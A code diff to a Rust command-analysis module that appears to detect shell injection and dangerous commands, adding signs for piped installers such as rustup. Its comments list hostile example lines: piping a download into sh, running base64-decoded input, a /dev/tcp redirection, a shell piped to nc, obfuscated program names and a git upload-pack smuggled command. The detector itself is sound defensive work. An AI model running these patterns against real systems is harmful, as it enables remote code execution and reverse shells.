@@ -9,6 +9,8 @@
 //! | `injection-attempt` | the same, were `%3b`, `\n` or `&amp;` decoded, or quotes not there |
 //! | `hidden-command` | the name of a program is written so that it is not recognised: `c''at`, `/b?n/c?t` |
 //! | `runs-fetched` | what comes from the network is run: `curl URL \| sh` |
+//! | `runs-installer` | the same, of well-known installers by HTTPS alone: `curl https://sh.rustup.rs \| sh` |
+//! | `fetches-installer` | a program fetches one of them: `curl https://sh.rustup.rs` |
 //! | `runs-decoded` | what was encoded is run: `echo aWQ= \| base64 -d \| sh` |
 //! | `dev-tcp` | a redirection to `/dev/tcp/HOST/PORT` |
 //! | `shell-on-network` | what a shell prints goes to the network by a pipe: `sh -i \| nc HOST PORT` |
@@ -35,6 +37,7 @@ mod expand;
 mod given;
 mod handed;
 mod heads;
+mod installers;
 mod judge;
 mod landed;
 mod leak;
@@ -120,7 +123,9 @@ pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Readi
         sign(&mut reading, "injection", odd.because);
     } else if let Some(odd) = attempt(text, &script) {
         sign(&mut reading, "injection-attempt", odd.because);
-    } else if is_other_language(&decoded(text).unwrap_or_else(|| text.to_owned())) {
+    } else if script.top().any(heads::is_misplaced) {
+        sign(&mut reading, "injection-attempt", vec!["a command stands where a machine is named".to_owned()]);
+    } else if script.calls || is_other_language(&decoded(text).unwrap_or_else(|| text.to_owned())) {
         sign(
             &mut reading,
             "injection-attempt",
@@ -134,10 +139,14 @@ pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Readi
 /// Reads the texts in the arguments of a program that is no shell: `git clone --upload-pack='id;'`, `awk 'BEGIN {system("id")}'`.
 pub fn read_arguments(argv: &[String]) -> Reading {
     let mut reading = Reading::default();
+    let command = script::Command::of(argv);
+    if installers::is_one(&command) {
+        return Reading { text: argv.join(" "), signs: vec!["fetches-installer".to_owned()], ..reading };
+    }
     if !embedded::may_take(argv) {
         return reading;
     }
-    let script = script::Script { commands: vec![script::Command::of(argv)], ..script::Script::default() };
+    let script = script::Script { commands: vec![command], ..script::Script::default() };
     follow(&mut reading, vec![script]);
     // The command itself is known.
     reading.commands.remove(0);
@@ -154,6 +163,8 @@ fn follow(reading: &mut Reading, mut texts: Vec<script::Script>) {
     while let Some(script) = texts.get(at) {
         at += 1;
         for name in danger::signs(script) {
+            let name =
+                if name == "runs-fetched" && installers::only(script) { "runs-installer" } else { name };
             sign(reading, name, Vec::new());
         }
         if planted::plants(script) {
@@ -240,9 +251,9 @@ pub(super) fn simple_commands(text: &str) -> Vec<Simple> {
 
 /// What would be odd about a text, had a web server decoded it or were what it gives to a program not in quotes.
 fn attempt(text: &str, script: &script::Script) -> Option<judge::Oddity> {
-    let judged = |text: &str| judge::oddity(&parse::parse(text), false);
+    let judged = |text: &str, written: bool| judge::oddity(&parse::parse(text), written);
     let decoded = decoded(text);
-    if let Some(odd) = decoded.as_deref().and_then(judged) {
+    if let Some(odd) = decoded.as_deref().and_then(|text| judged(text, false)) {
         return Some(odd);
     }
     // What stands in quotes is often a program for another interpreter: it must be odder, unless a machine is named.
@@ -250,8 +261,13 @@ fn attempt(text: &str, script: &script::Script) -> Option<judge::Oddity> {
     let prints =
         script.top().next().is_some_and(|command| matches!(command.name(), "echo" | "printf" | "grep"));
     let enough = if data > 1 { 3 } else { 4 };
-    let unquoted = decoded.as_deref().unwrap_or(text).replace(['\'', '"'], "");
-    (data > 0 && !prints).then(|| judged(&unquoted)).flatten().filter(|odd| odd.points >= enough)
+    // What others are given in quotes is none of its data.
+    let plain = decoded.as_deref().unwrap_or(text);
+    let end = script.top().nth(1).map_or(text.len(), |next| next.at);
+    let end = if decoded.is_some() || !text.is_char_boundary(end) { plain.len() } else { end };
+    let unquoted = format!("{}{}", plain[..end].replace(['\'', '"'], ""), &plain[end..]);
+    let try_it = data > 0 && !prints && unquoted != plain;
+    try_it.then(|| judged(&unquoted, decoded.is_none())).flatten().filter(|odd| odd.points >= enough)
 }
 
 /// The text with separators decoded that only a web server would have decoded, if there are any.
